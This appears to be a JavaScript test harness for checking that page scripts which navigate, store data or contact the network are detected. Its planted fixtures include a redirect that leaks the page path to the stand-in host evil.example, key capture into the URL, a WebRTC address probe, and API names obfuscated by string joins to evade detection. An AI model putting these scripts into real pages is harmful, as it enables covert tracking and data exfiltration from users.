// Watching what the script of a page does by itself: what it calls, where it
// goes, what it keeps. And pages with a script for each thing that must be
// noticed.
import { createServer } from 'node:https';
import { once } from 'node:events';

/**
 * Runs in a page before its own script: notes each call by which a script
 * could reach out, go away, keep something or start another script, and lets
 * it happen.
 */
export function spy() {
  const seen = [];
  Object.defineProperty(window, Symbol.for('seen'), { value: seen });
  const note = (object, name) => {
    const real = object?.[name];
    if (typeof real !== 'function') return;
    object[name] = new Proxy(real, {
      apply: (target, self, args) => (seen.push(name), Reflect.apply(target, self, args)),
      construct: (target, args, fresh) => (seen.push(name), Reflect.construct(target, args, fresh)),
    });
  };
  for (const name of [
    'RTCPeerConnection', 'webkitRTCPeerConnection', 'Worker', 'SharedWorker', 'WebSocket', 'WebTransport', 'EventSource',
    'XMLHttpRequest', 'BroadcastChannel', 'MessageChannel', 'Notification', 'Image', 'Audio', 'fetch', 'open', 'postMessage', 'eval', 'Function',
  ]) note(window, name);
  for (const [type, ...names] of [
    ['Navigator', 'sendBeacon'], ['ServiceWorkerContainer', 'register'], ['History', 'pushState', 'replaceState', 'go', 'back', 'forward'],
    ['Storage', 'setItem'], ['IDBFactory', 'open'], ['CacheStorage', 'open'], ['StorageManager', 'getDirectory'], ['Document', 'write', 'createElement'],
  ]) for (const name of names) note(window[type]?.prototype, name);
}

/** Runs in a page: what there is to see of what its script has done. */
export async function traces() {
  const or = async (get) => {
    try {
      return await get();
    } catch (error) {
      return [String(error)];
    }
  };
  return {
    address: location.href,
    name: window.name,
    called: [...window[Symbol.for('seen')]],
    cookies: document.cookie,
    localStorage: await or(() => Object.keys(localStorage)),
    sessionStorage: await or(() => Object.keys(sessionStorage)),
    databases: await or(async () => (await indexedDB.databases()).map(({ name }) => name)),
    caches: await or(() => caches.keys()),
    serviceWorkers: await or(async () => (await navigator.serviceWorker.getRegistrations()).map(({ scope }) => scope)),
  };
}

/** The traces of a page whose script has done nothing. */
export const noTraces = (address) => ({
  address, name: '', called: [], cookies: '', localStorage: [], sessionStorage: [], databases: [], caches: [], serviceWorkers: [],
});

/** Scripts that must be noticed, with what notices them: part of what traces and act return. */
export const planted = {
  'leaves when loaded': ['addEventListener("load", () => { location.href = "/gone?" + location.pathname })', { navigations: 1 }],
  'replaces the page': ['location.replace("/gone")', { navigations: 1 }],
  'leaves at a key': ['addEventListener("keydown", (e) => { if (e.key === "a") location.href = "/gone?" + e.key })', { navigations: 1 }],
  'leaves at a click': ['addEventListener("click", () => { location.href = "/gone" })', { navigations: 1 }],
  'goes to another site': ['addEventListener("load", () => { location.href = "https://evil.example/?" + location.pathname })', { foreign: 'evil.example' }],
  'writes keys into the address': ['addEventListener("keydown", (e) => { location.hash += e.key })', { address: /#.*a/ }],
  'writes the history': ['history.replaceState(1, "", "/seen")', { address: /seen/, called: 'replaceState' }],
  'names the window': ['name = "seen " + location.pathname', { name: /seen/ }],
  'keeps a cookie': ['document.cookie = "a=1"', { cookies: /a=1/ }],
  'stores': ['self[["local", "Storage"].join("")].x = 1', { localStorage: 'x' }],
  'stores for the session': ['sessionStorage.x = 1', { sessionStorage: 'x' }],
  'opens a database': ['indexedDB.open("base")', { databases: 'base', called: 'open' }],
  'opens a cache': ['caches.open("store")', { caches: 'store' }],
  'starts a worker': ['new Worker("/worker.js")', { called: 'Worker' }],
  'starts a shared worker': ['new SharedWorker("/worker.js")', { called: 'SharedWorker' }],
  'registers a worker': ['navigator.serviceWorker.register("/worker.js")', { called: 'register' }],
  'asks for its own address': ['const c = new self[["RTC", "Peer", "Connection"].join("")]({ iceServers: [{ urls: "stun:stun.example:3478" }] }); c.createDataChannel("a"); c.createOffer().then((o) => c.setLocalDescription(o))', { called: 'RTCPeerConnection' }],
  'looks a name up': ['const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "https://lookup.example"; document.head.append(l)', { called: 'createElement' }],
  'asks the network': ['fetch("/gone")', { called: 'fetch' }],
};

/** Serves a page for each planted script, at /0, /1 and so on of https://control.example. */
export async function openPlanted(keys) {
  const scripts = Object.values(planted).map(([script]) => script);
  const server = createServer({ key: keys.key, cert: keys.cert }, ({ url }, response) => {
    const script = scripts[Number(url.slice(1))];
    response.setHeader('content-type', url === '/worker.js' ? 'text/javascript' : 'text/html; charset=utf-8');
    response.end(url === '/worker.js' ? '' : `<!doctype html><html lang="en"><head><title>Control</title><link rel="icon" href="data:,">` +
      `${script ? `<script>${script}</script>` : ''}</head><body><h1>Control</h1></body></html>`);
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: server.address().port,
    close() {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    },
  };
}
